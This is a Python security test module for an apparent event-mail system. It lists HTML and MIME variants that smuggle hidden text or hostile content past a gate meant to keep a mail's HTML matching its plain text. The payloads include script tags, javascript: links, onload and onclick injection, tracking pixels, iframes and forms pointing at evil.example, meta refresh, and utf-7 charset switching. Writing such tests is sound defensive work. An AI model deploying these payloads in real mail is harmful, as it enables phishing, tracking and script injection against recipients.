"""What HTML can hide from who reads the text: none of it passes the gate, or is ever written."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable

from eventmail.wire import BlindBatch, Individual, Wording, gate, html_writing
from tests.attacks.arena import Also, Attack, Barrier, Family, Lowering
from tests.attacks.letter_text import TEXTS, overlooking
from tests.attacks.lowering import COMPOSE, cut, instead
from tests.attacks.world import World
from tests.wire.samples import AOZORA, IDENTITY, KURE, MIDORI, STAMP

BODY = "株式会社青空　御中\n会場は大ホールです。\nhttps://hirono.example/map\n"
SECRET = "呉精機ほか29社"


def mail(body: str = BODY, envelope: Individual | BlindBatch | None = None) -> bytes:
    """A mail with both alternatives."""
    wording = Wording("ご案内", body, html=True)
    composed: bytes = COMPOSE.compose(
        IDENTITY, envelope or Individual(AOZORA), wording, (), STAMP
    ).content
    return composed


GOOD = mail()
PARTS = re.compile(rb"(text/html; charset=\"utf-8\"\r\n[^\r]*\r\n\r\n)([A-Za-z0-9+/=\r\n]+)(--=_)")


def page_of(content: bytes) -> str:
    """The HTML as a browser gets it."""
    found = PARTS.search(content)
    assert found
    return base64.b64decode(found[2]).decode()


def with_page(page: str, charset: str = "utf-8") -> bytes:
    """The mail with another page as its HTML."""
    found = PARTS.search(GOOD)
    assert found
    encoded = base64.encodebytes(page.encode(charset)).replace(b"\n", b"\r\n")
    return GOOD[: found.start(2)] + encoded + GOOD[found.end(2) :]


def _put(old: str, new: str) -> str:
    page = page_of(GOOD)
    assert page.count(old) == 1
    return page.replace(old, new)


def _line(added: str) -> str:
    return _put("会場は", f"{added}会場は")


URL = "https://hirono.example/map"
LINK = f'<a href="{URL}">{URL}</a>'
PAGES = {
    "a comment": _line(f"<!-- {SECRET} -->"),
    "a conditional comment": _line(f"<!--[if mso]>{SECRET}<![endif]-->"),
    "a style that hides": _line(f'<span style="display:none">{SECRET}</span>'),
    "a hidden element": _line(f"<div hidden>{SECRET}</div>"),
    "a style sheet": _put("</head>", f'<style>body:after{{content:"{SECRET}"}}</style></head>'),
    "a script": _line(f"<script>document.write('{SECRET}')</script>"),
    "a picture that reports its reader": _line(
        '<img src="https://evil.example/p.gif?to=29" alt="">'
    ),
    "a picture's text": _line(f'<img src="cid:x" alt="{SECRET}">'),
    "a frame": _line('<iframe src="https://evil.example/list"></iframe>'),
    "an attribute": _put("<body ", f'<body title="{SECRET}" '),
    "an event": _put("<body ", '<body onload="alert(29)" '),
    "a title": _put("</head>", f"<title>{SECRET}</title></head>"),
    "a refresh": _put("</head>", '<meta http-equiv="refresh" content="0;url=//evil.example">'),
    "a base of all links": _put("</head>", '<base href="https://evil.example/"></head>'),
    "another charset in the head": _put('charset="utf-8"', 'charset="utf-7"'),
    "entities by number": _line("&#21561;&#31934;&#27231;"),
    "entities by name": _line("&commat;kure"),
    "a CDATA section": _line(f"<![CDATA[{SECRET}]]>"),
    "a processing instruction": _line(f"<?php {SECRET} ?>"),
    "a tag that is not closed": _line(f'<a title="{SECRET}'),
    "a text area": _line(f"<textarea>{SECRET}</textarea>"),
    "a form": _line('<form action="https://evil.example"><input name="x"></form>'),
    "more text than the text": _line(SECRET),
    "less text than the text": _put("会場は大ホールです。", ""),
    "words behind the page": page_of(GOOD) + f"<p>{SECRET}</p>\r\n",
    "words before the page": f"<p>{SECRET}</p>" + page_of(GOOD),
    "a second body": _put("</html>", f"<body>{SECRET}</body></html>"),
    "a link that shows another target": _put(LINK, f'<a href="https://evil.example/">{URL}</a>'),
    "a link that runs a script": _put(LINK, f'<a href="javascript:alert(29)">{URL}</a>'),
    "a link with its own data": _put(LINK, f'<a href="data:text/html,29">{URL}</a>'),
    "a link that writes a mail": _put(LINK, f'<a href="mailto:{AOZORA}">{URL}</a>'),
    "a link with a second attribute": _put(LINK, f'<a href="{URL}" ping="https://e.example">x</a>'),
    "a link in capitals": _put(LINK, f'<A HREF="https://evil.example/">{URL}</A>'),
}
SAME_TEXT: Lowering = cut(gate, "inspect", "text_of_html(mail.html) != mail.body", "False")


def _passes(content: bytes) -> Callable[[World], bool]:
    """The HTML is received as the attacker wrote it."""

    def strike(world: World) -> bool:
        assert content != GOOD
        return world.sends(content) == content

    return strike


HTML = b'Content-Type: text/html; charset="utf-8"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
SECOND = HTML + base64.encodebytes(f"<p>{SECRET}</p>".encode()).replace(b"\n", b"\r\n")
EDGE_FOUND = re.search(rb'boundary="([^"]+)"', GOOD)
assert EDGE_FOUND
EDGE = b"--" + EDGE_FOUND[1]
HEAD = GOOD[: GOOD.index(b"Content-Type: multipart")]
INNER = GOOD[len(HEAD) :]


def _changed(old: bytes, new: bytes) -> bytes:
    assert GOOD.count(old) == 1
    return GOOD.replace(old, new)


STRUCTURES = {
    "a second HTML part": _changed(EDGE + b"--", EDGE + b"\r\n" + SECOND + EDGE + b"--"),
    "the HTML before the text": HEAD
    + INNER.replace(b"text/plain", b"text/x").replace(b"text/html", b"text/plain"),
    "the HTML in another charset": _changed(
        b'text/html; charset="utf-8"', b'text/html; charset="utf-7"'
    ),
    "the HTML without a charset": _changed(b'text/html; charset="utf-8"', b"text/html"),
    "the HTML under another type": _changed(b"text/html", b"application/xhtml+xml"),
    "the HTML as the only body": HEAD + SECOND,
    "the HTML as the only alternative": _changed(
        GOOD[GOOD.index(EDGE + b"\r\n") : GOOD.rindex(EDGE + b"\r\n")], b""
    ),
    "a file in place of the HTML": _changed(b"text/html", b"image/svg+xml"),
    "alternatives in alternatives": HEAD
    + INNER[: INNER.index(b"\r\n\r\n")].replace(EDGE_FOUND[1], b"outer")
    + b"\r\n\r\n--outer\r\n"
    + INNER
    + b"--outer--\r\n",
    "alternatives called related": _changed(b"multipart/alternative", b"multipart/related"),
    "words before the alternatives": _changed(
        INNER[: INNER.index(EDGE + b"\r\n")],
        INNER[: INNER.index(EDGE + b"\r\n")] + SECRET.encode("iso-2022-jp") + b"\r\n",
    ),
    "words behind the alternatives": GOOD + SECRET.encode("iso-2022-jp") + b"\r\n",
}

MARKUP = {
    "a script": "<script>alert(29)</script>",
    "a picture": "<img src=https://evil.example/p.gif>",
    "a comment": "<!-- 29 -->",
    "an end of the page": "</body></html>",
    "an entity": "&commat;",
    "a link": '<a href="https://evil.example">https://hirono.example</a>',
    "a style": "<style>*{display:none}</style>",
    "an attribute behind an address": 'https://hirono.example/"onclick="alert(29)',
}
SAID = Also(Barrier.GATE, SAME_TEXT)
BARE: Lowering = instead(html_writing, "_line", lambda line: line)


def _is_markup(text: str) -> Callable[[World], bool]:
    """What was typed as text is received as a browser's instruction."""

    def strike(world: World) -> bool:
        return text in page_of(world.sends(mail(f"ご案内\n{text}\n")))

    return strike


TARGETS = {
    "a script": "javascript:alert(29)",
    "data": "data:text/html;base64,PHA+",
    "a mail": "mailto:henshin@hirono.example",
    "a file": "file://fileserver/roster",
}
ANY_SCHEME: Lowering = instead(html_writing, "_URL", re.compile(r"[a-z]+:\S+"))


def _links(text: str) -> Callable[[World], bool]:
    def strike(world: World) -> bool:
        return f'<a href="{text}"' in page_of(world.sends(mail(f"ご案内\n{text}\n")))

    return strike


def _shows_batch(world: World) -> bool:
    """A recipient of a batch stands in its HTML alone."""
    batch = BlindBatch((KURE, MIDORI))
    whole = mail(envelope=batch)
    assert page_of(whole)
    page = page_of(whole).replace("会場は", f"{KURE} 会場は")
    clean = PARTS.search(whole)
    assert clean
    encoded = base64.encodebytes(page.encode()).replace(b"\n", b"\r\n")
    content = whole[: clean.start(2)] + encoded + whole[clean.end(2) :]
    return str(KURE) in page_of(world.sends(content, envelope=batch))


ATTACKS = (
    *(
        Attack(
            Family.LETTER,
            Barrier.GATE,
            f"in the HTML, {name}",
            _passes(with_page(page)),
            SAME_TEXT,
            (Also(Barrier.GATE, TEXTS),),
        )
        for name, page in PAGES.items()
    ),
    *(
        Attack(Family.LETTER, Barrier.GATE, name, _passes(content), overlooking(GOOD))
        for name, content in STRUCTURES.items()
    ),
    Attack(
        Family.LETTER,
        Barrier.GATE,
        "a batch's recipient in the HTML alone",
        _shows_batch,
        SAME_TEXT,
        (Also(Barrier.GATE, TEXTS),),
    ),
    *(
        Attack(
            Family.TEMPLATE,
            Barrier.COMPOSER,
            f"{name} in the letter, as HTML",
            _is_markup(text),
            BARE,
            (SAID,),
        )
        for name, text in MARKUP.items()
    ),
    *(
        Attack(
            Family.TEMPLATE,
            Barrier.COMPOSER,
            f"a link to {name} in the letter, as HTML",
            _links(text),
            ANY_SCHEME,
            (SAID,),
        )
        for name, text in TARGETS.items()
    ),
)
